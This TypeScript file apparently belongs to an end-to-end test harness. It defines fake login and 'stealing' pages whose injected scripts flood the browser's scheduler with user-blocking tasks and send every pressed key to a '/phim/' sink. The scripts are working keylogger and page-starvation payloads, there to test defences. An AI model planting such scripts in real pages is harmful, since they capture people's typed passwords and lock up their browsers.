import { loginPage, stealingPage } from "../e2e/harness/asking-pages.ts";
import type { Reply } from "../e2e/harness/network.ts";

/** Where the page sends each key as soon as it hears it, whatever else waits. */
export const SINK = "/phim/";

/**
 * Script of a page that has always something to do which comes before everything but input; its keys go out by requests
 * that need no other task.
 *
 * @param begin event of the window on which it begins
 */
const starves = (begin: string): string => `<script>
  const busy = () => {
    scheduler.postTask(() => {
      busy();
      for (const end = performance.now() + 4; performance.now() < end; );
    }, { priority: "user-blocking" });
  };
  ${begin === "" ? "busy();" : `addEventListener("${begin}", busy, { capture: true, once: true });`}
  addEventListener("keydown", ({ key }) => {
    const request = new XMLHttpRequest();
    request.open("POST", "${SINK}" + encodeURIComponent(key), false);
    request.send();
  }, true);
</script>`;

/** Pages that keep everybody waiting who would look at them, by when they begin. */
export const STARVING_PAGES: Record<string, () => Reply> = {
  "from its first script on": () => stealingPage(starves("")),
  "once it is loaded": () => stealingPage(starves("load")),
  "once somebody goes into a field": () => loginPage({ head: starves("focusin") }),
  "once a key is pressed": () => loginPage({ head: starves("keydown") }),
};
